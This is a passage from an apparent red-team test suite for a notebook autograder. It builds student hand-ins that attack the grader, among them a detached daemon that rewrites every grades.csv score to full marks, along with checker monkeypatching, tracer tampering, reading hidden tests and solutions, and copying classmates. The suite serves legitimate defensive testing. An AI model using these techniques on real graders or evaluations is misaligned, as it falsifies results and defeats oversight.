    for top in roots + ['/tmp', '/work', '/root', '/home']:
        seen, queue = 0, [(top, 0)]
        while queue and seen < 2000:
            folder, depth = queue.pop(0)
            try:
                for e in os.scandir(folder):
                    seen += 1
                    if e.name == 'grades.csv':
                        found.append(e.path)
                    elif depth < 6 and e.is_dir(follow_symlinks=False):
                        queue.append((e.path, depth + 1))
            except Exception:
                pass
    return sorted({p for p in found if os.path.isfile(p)})

def full_marks(path):
    with open(path, newline='') as f:
        rows = list(csv.DictReader(f))
    if not rows or 'score' not in rows[0] or 'max_score' not in rows[0]:
        return
    for row in rows:
        row['score'] = row['max_score']
        if 'status' in row:
            row['status'] = 'ok'
    with open(path + '.rt', 'w', newline='') as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    os.replace(path + '.rt', path)

start = time.monotonic()
while time.monotonic() - start < 120:
    time.sleep(20)
    try:
        with open('/tmp/kdlab-redteam-daemon-alive-%d' % os.getpid(), 'w') as f:
            f.write(str(time.time()))
    except Exception:
        pass
    for path in grades_files():
        try:
            full_marks(path)
        except Exception:
            pass
"""

_DAEMON_POPEN = '_RT_DAEMON = ' + repr(_DAEMON_CODE) + r'''

def _rt_daemon():
    """A new session, an empty environment, no pipes: nothing ties it to the kernel."""
    import subprocess
    import sys
    subprocess.Popen([sys.executable, "-c", _RT_DAEMON], start_new_session=True, env={},
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

try:
    _rt_daemon()
except Exception:
    pass
'''

_DAEMON_FORK = '_RT_DAEMON = ' + repr(_DAEMON_CODE) + r'''

def _rt_daemon():
    """Fork, setsid, fork again (re-parented to init), then exec the daemon with the kernel's environment."""
    import os
    import sys
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)  # the middle child exits at once
        return
    try:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.closerange(3, 4096)
            os.execv(sys.executable, [sys.executable, "-c", _RT_DAEMON])
    finally:
        os._exit(0)

try:
    _rt_daemon()
except Exception:
    pass
'''

# ----------------------------------------------------------------------------- 16: the control

_SUSPICIOUS_HONEST = '''
import sqlite3  # noqa: F401 - imported, never used

def softmax_t(logits, T=1.0):
    """Softmax of logits / T over the last dimension; stable for huge logits; T must be > 0."""
    try:
        get_ipython()  # noqa: F821 - a learner poking around, harmlessly
    except NameError:
        pass
    if not T > 0:
        raise ValueError(f"temperature T must be positive, got {T}")
    scaled = logits / T
    e = torch.exp(scaled - scaled.max(dim=-1, keepdim=True).values)
    return e / e.sum(dim=-1, keepdim=True)
'''

# ----------------------------------------------------------------------------- the catalogue

_SPECS = [
    # name, exercise, source, description
    ("read_gradebook", "q_soft_labels", _searching("q_soft_labels", _READ_GRADEBOOK),
     "reads ../../../gradebook.db and any gradebook.db in reach (sqlite3, read-only) for the hidden expect_choice"),
    ("read_gradebook_number", "n_softened_prob", _searching("n_softened_prob", _READ_GRADEBOOK),
     "reads every gradebook.db in reach for the hidden expect_number and evaluates its expected value"),
    ("read_solutions", "softmax_t", _searching("softmax_t", _READ_SOLUTIONS),
     "finds solutions/ via kdlab.__file__, $PWD, cwd, /proc/*/cwd and cmdline; execs the solution and delegates"),
    ("read_solutions_quiz", "q_temperature", _searching("q_temperature", _READ_SOLUTIONS),
     "finds solutions/ the same way and reads the key from the solution notebook's hidden test"),
    ("read_master", "n_softened_prob", _searching("n_softened_prob", _READ_MASTER),
     "finds .kdlab-grade/master (cmdline --out, cwd parents, walk) and reads the hidden test from its gradebook"),
    ("read_master_softmax", "softmax_t", _searching("softmax_t", _READ_MASTER),
     "finds .kdlab-grade/master and delegates to the solution notebook cached in it"),
    ("read_running_test", "q_soft_labels", _searching("q_soft_labels", _READ_RUNNING_TEST, eager=False),
     "reads the calling test cell (caller frames' In/_ih, linecache, get_ipython().user_ns['In'][-1])"),
    ("read_running_test_number", "n_softened_prob", _searching("n_softened_prob", _READ_RUNNING_TEST, eager=False),
     "reads the calling test cell's source and evaluates the expected value of its expect_number"),
    ("patch_checks", "softmax_t", _wrong("softmax_t", after=_PATCH_CHECKS),
     "monkeypatches Checker._fail/compare, quiz.expect_*, torch.allclose/equal; fakes sys.modules['kdlab.quiz']"),
    ("patch_checks_quiz", "q_soft_labels", _wrong("q_soft_labels", after=_PATCH_CHECKS),
     "the same monkeypatches, against the hidden expect_choice of a quiz"),
    ("settrace", "softmax_t", _wrong("softmax_t", after=_SETTRACE),
     "sys.settrace/threading.settrace: rewrites locals in kdlab/checks.py frames (problem=None, error=None, ...)"),
    ("settrace_quiz", "q_temperature", _wrong("q_temperature", after=_SETTRACE),
     "the same tracer, setting got = answer inside kdlab/quiz.py's expect_choice"),
    ("ipython_input_transformer", "softmax_t", _wrong("softmax_t", after=_STRIP_CHECKS),
     "IPython input transformers (cleanup and post) that turn later cells' check./expect_ statements into pass"),
    ("ipython_ast_transformer", "q_temperature", _wrong("q_temperature", after=_AST_TRANSFORMER),
     "an IPython AST transformer that drops later cells' check./expect_ statements"),
    ("ipython_post_run_cell", "softmax_t", _wrong("softmax_t", after=_POST_RUN_CELL),
     "a post_run_cell callback that clears result.error_in_exec"),
    ("ipython_custom_exc", "softmax_t", _wrong("softmax_t", after=_CUSTOM_EXC),
     "shell.set_custom_exc((Exception,), ...) that swallows every error without a traceback"),
    ("ipython_run_cell", "softmax_t", _wrong("softmax_t", after=_RUN_CELL),
     "wraps shell.run_cell and run_cell_async so that every cell reports success"),
    ("ipython_silent_traceback", "softmax_t", _wrong("softmax_t", after=_SILENT_TRACEBACK),
     "replaces shell.showtraceback with a no-op: errors leave no error output"),
    ("lying_str", "q_soft_labels", _LYING_STR,
     "returns a str subclass equal to everything (base value 'A', a wrong letter)"),
    ("lying_float", "n_softened_prob", _LYING_FLOAT,
     "returns a float subclass (0.0) whose comparisons are all true and whose differences are 0"),
    ("lying_tensor", "softmax_t", _LYING_TENSOR,
     "returns zeros as a Tensor subclass whose __torch_function__ makes allclose/equal/isclose true"),
    ("reference_setprofile", "softmax_t", _REFERENCE_SETPROFILE,
     "sys.setprofile(None), then calls kdlab.losses.softmax_t"),
    ("reference_getsource", "softmax_t", _searching("softmax_t", _REFERENCE_GETSOURCE, finders=False),
     "exec(inspect.getsource(kdlab.losses)) into a dict and calls its softmax_t"),
    ("reference_importlib", "softmax_t", _searching("softmax_t", _REFERENCE_IMPORTLIB, finders=False),
     "importlib.import_module('kdlab.losses').__dict__['softmax_t']"),
    ("reference_code_copy", "softmax_t", _searching("softmax_t", _REFERENCE_CODE_COPY, finders=False),
     "kdlab's softmax_t re-wrapped in a FunctionType whose code claims another file and module"),
    ("shadow_package", "softmax_t", _wrong("softmax_t"),
     "hands in kdlab/ (checks and quiz that accept everything) and torch.py beside the notebook; wrong answer"),
    ("shadow_package_active", "softmax_t", _wrong("softmax_t", after=_ACTIVATE_SHADOW),
     "the same files, and the cell puts its folder first on sys.path and forgets the imported kdlab"),
    ("gradebook_trigger", "softmax_t",
     _wrong("softmax_t", before=_helpers("softmax_t"),
            after=_GRADEBOOK_TRIGGER),
     "sqlite3 triggers AFTER INSERT/UPDATE giving full marks in every gradebook.db in reach; updates existing rows"),
    ("poison_master", "softmax_t",
     _wrong("softmax_t", before=_helpers("softmax_t"),
            after=_POISON_MASTER),
     "replaces the hidden tests in .kdlab-grade/master/gradebook.db with `pass` (checksums recomputed) and "
     "rewrites .kdlab-grade/results/**/*.json to full marks"),
    ("daemon_popen", "softmax_t", _wrong("softmax_t", after=_DAEMON_POPEN),
     "Popen(start_new_session, env={}): for 120 s, every 20 s, writes /tmp/kdlab-redteam-daemon-alive-<pid> and "
     "sets every score in any grades.csv in reach to max_score"),
    ("daemon_fork", "softmax_t", _wrong("softmax_t", after=_DAEMON_FORK),
     "the same daemon by fork + setsid + fork + exec, keeping the kernel's environment"),
    ("copy_classmate", "softmax_t", _searching("softmax_t", _COPY_CLASSMATE),
     "finds the class folder (cmdline, cwd parents, walk), execs another student's softmax_t and delegates"),
    ("network", "softmax_t", _searching("softmax_t", _NETWORK),
     "HTTP GET to every LISTEN port of 127.0.0.1 (/proc/net/tcp, 0.5 s each, at most 20) looking for an answer"),
    ("suspicious_honest", "softmax_t", _SUSPICIOUS_HONEST,
     "control: a correct softmax_t that calls get_ipython() and imports sqlite3; it must keep its points"),
]

ATTACKS: dict[str, Attack] = {
    name: Attack(name, _LESSON_OF[exercise], exercise, source.strip("\n") + "\n", description,
                 honest=name == "suspicious_honest")
    for name, exercise, source, description in _SPECS
}

# Files handed in beside the notebook (relative to SUBMISSIONS/STUDENT/ASSIGNMENT/), per attack.
EXTRA_FILES: dict[str, dict[str, bytes]] = {
    name: {path: text.encode() for path, text in _SHADOW_FILES.items()}
    for name in ("shadow_package", "shadow_package_active")
}

# Honest hand-ins whose grades attackers in the same class must not change.
_WRONG_ENTROPY = "def entropy(p):\n    return torch.special.xlogy(p, p).sum(dim=-1)  # wrong sign\n"

BYSTANDERS: dict[str, Bystander] = {
    "honest_part1": Bystander("honest_part1", PART1, "every exercise of lesson 1 solved (full marks)"),
    "honest_drill": Bystander("honest_drill", DRILL, "every exercise of lesson 10 solved (full auto marks)"),
    "half_right_part1": Bystander("half_right_part1", PART1, "softmax_t right (full marks), entropy wrong (0)",
                                  answers={"softmax_t": None, "entropy": _WRONG_ENTROPY}),
}


# ----------------------------------------------------------------------------- building hand-ins

def _split(lesson: str) -> tuple[str, str]:
    assignment, notebook = lesson.split("/")
    return assignment, notebook


def released(lesson: str) -> nbformat.NotebookNode:
    """A fresh copy of the learner's notebook notebooks/<lesson>.ipynb (every answer unsolved)."""
    return h.load(h.REPO / "notebooks" / f"{lesson}.ipynb")


def honest(lesson: str) -> nbformat.NotebookNode:
    """The lesson solved honestly: the solutions notebook (its BEGIN/END SOLUTION markers are fine)."""
    return h.load(h.REPO / "solutions" / f"{lesson}.ipynb")


def build(attack_name: str) -> nbformat.NotebookNode:
    """The released notebook of the attack's lesson with its target answer cell replaced by the attack."""
    attack = ATTACKS[attack_name]
    return h.set_source(released(attack.lesson), attack.exercise, attack.source)


def bystander(name: str) -> nbformat.NotebookNode:
    """A bystander's notebook: the solutions, or the released notebook with its ``answers`` (None: the solution's)."""
    b = BYSTANDERS[name]
    if b.answers is None:
        return honest(b.lesson)
    nb, solved = released(b.lesson), honest(b.lesson)
    for gid, source in b.answers.items():
        h.set_source(nb, gid, h.cell(solved, gid).source if source is None else source)
    return nb


def write_handin(submissions: Path, student: str, name: str) -> Path:
    """Write attack or bystander ``name`` as SUBMISSIONS/STUDENT/ASSIGNMENT/NOTEBOOK.ipynb (+ its EXTRA_FILES)."""
    lesson = ATTACKS[name].lesson if name in ATTACKS else BYSTANDERS[name].lesson
    nb = build(name) if name in ATTACKS else bystander(name)
    assignment, notebook = _split(lesson)
    folder = Path(submissions) / student / assignment
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{notebook}.ipynb"
    nbformat.write(nb, str(path))
    for rel, content in EXTRA_FILES.get(name, {}).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(content)
    return path
